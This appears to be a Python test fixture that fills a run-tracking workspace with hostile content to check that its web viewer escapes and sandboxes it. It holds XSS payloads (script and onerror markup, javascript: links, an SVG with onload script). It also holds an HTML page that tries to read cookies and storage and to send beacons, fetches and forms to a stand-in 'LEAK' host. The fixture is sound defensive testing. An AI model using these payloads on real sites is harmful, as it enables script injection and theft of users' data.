"""A workspace by somebody who means harm: every name is markup, every file tries to get out."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import plotly.graph_objects

import runstore
from tests.view.page.stores import png

HARM = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
"""What a name is everywhere: it would ask for ``x`` and call the page otherwise."""
LINK = "javascript:document.title='owned'"

TRYING = """<!doctype html><title>tries</title><body><script>
const told = {};
const attempt = (name, what) => { try { what(); told[name] = "done"; } catch (error) { told[name] = "refused"; } };
attempt("page", () => parent.document.title);
attempt("store", () => parent.sessionStorage.length);
attempt("own store", () => localStorage.length);
attempt("cookies", () => document.cookie);
attempt("top", () => { top.location.href = "http://LEAK/top"; });
attempt("window", () => { if (!open("http://LEAK/window")) throw 0; });
const picture = new Image(); picture.src = "http://LEAK/picture";
const sheet = document.createElement("link"); sheet.rel = "stylesheet"; sheet.href = "http://LEAK/sheet";
const script = document.createElement("script"); script.src = "http://LEAK/script";
const frame = document.createElement("iframe"); frame.src = "http://LEAK/frame";
const form = document.createElement("form"); form.action = "http://LEAK/form"; form.method = "post";
document.body.append(picture, sheet, script, frame, form);
attempt("beacon", () => { if (!navigator.sendBeacon("http://LEAK/beacon")) throw 0; });
attempt("form", () => form.submit());
const asked = ["/api/workspace", "/page.js", "http://LEAK/asked"].map((url) =>
  fetch(url).then(() => (told[url] = "done"), () => (told[url] = "refused")));
Promise.all(asked).then(() => {
  const shown = document.createElement("p"); shown.id = "told"; shown.textContent = JSON.stringify(told);
  document.body.append(shown);
});
</script>"""
"""A page that tries every way out of its frame to LEAK, and writes down what came of it."""

DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="document.title='owned'">
<script>document.title = "owned"; fetch("http://LEAK/drawing")</script>
<image href="http://LEAK/image" width="9" height="9"/><rect width="40" height="40" fill="teal"/></svg>"""

FIGURE: dict[str, Any] = {
    "data": [{"type": "heatmap", "z": [[1, 2], [3, 4]], "hovertemplate": HARM, "name": HARM}],
    "layout": {
        "title": {"text": f'{HARM}<a href="{LINK}">click</a>'},
        "images": [{"source": "http://LEAK/figure", "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
    },
}


def harmful(place: Path, leak: str) -> tuple[runstore.Workspace, str]:
    """The workspace, and the id of the run in which everything is. ``leak``: the host that would be told."""
    ws = runstore.Workspace(place)
    first = _run(ws, place, 0, leak)
    for number in (1, 2):
        _run(ws, place, number, leak)
    return ws, first


def _run(ws: runstore.Workspace, place: Path, number: int, leak: str) -> str:
    params = {HARM: f"{HARM}{number}", "lr": number / 10, "link": LINK}
    said = f"{HARM}\n\n{LINK}"
    run = runstore.start_run(HARM, HARM, params=params, tags={HARM: HARM}, description=said, workspace=ws)
    trying, drawing = TRYING.replace("LEAK", leak), DRAWING.replace("LEAK", leak)
    figure = json.dumps(FIGURE).replace("LEAK", leak)
    run.add_properties({HARM: HARM})
    for step in range(5):
        run.log({HARM: step * number, f"{HARM}/deep": step}, step=step)
    run.log("said", HARM)
    run.log_text(f"text {HARM}", HARM)
    run.log_table(f"table {HARM}", [{HARM: HARM, "image": LINK} for _ in range(3)])
    run.log_confusion_matrix(f"matrix {HARM}", y_true=["a", HARM], y_pred=["a", "a"], labels=["a", HARM])
    run.log_html("trying", trying)
    picture = place.parent / f"picture-{number}.png"
    picture.write_bytes(png(90))
    run.log_image(f"image {HARM}", picture, step=1)
    run.upload_file(f"outputs/{HARM}.txt", io.BytesIO(HARM.encode()))
    run.upload_file("trying.html", io.BytesIO(trying.encode()))
    run.upload_file("drawing.svg", io.BytesIO(drawing.encode()))
    run.log_figure("figure", plotly.graph_objects.Figure(json.loads(figure), skip_invalid=True))
    run.upload_file("model.bin", io.BytesIO(b"x"))
    run.register_model(HARM, "model.bin", tags={HARM: HARM}, description=HARM)
    run.note(f"# {HARM}\n\n[click]({LINK}) ![x](http://{leak}/note)")
    run._live().side().log("train", HARM, "WARNING", HARM)
    run.fail(f"{HARM} failed")
    return run.id
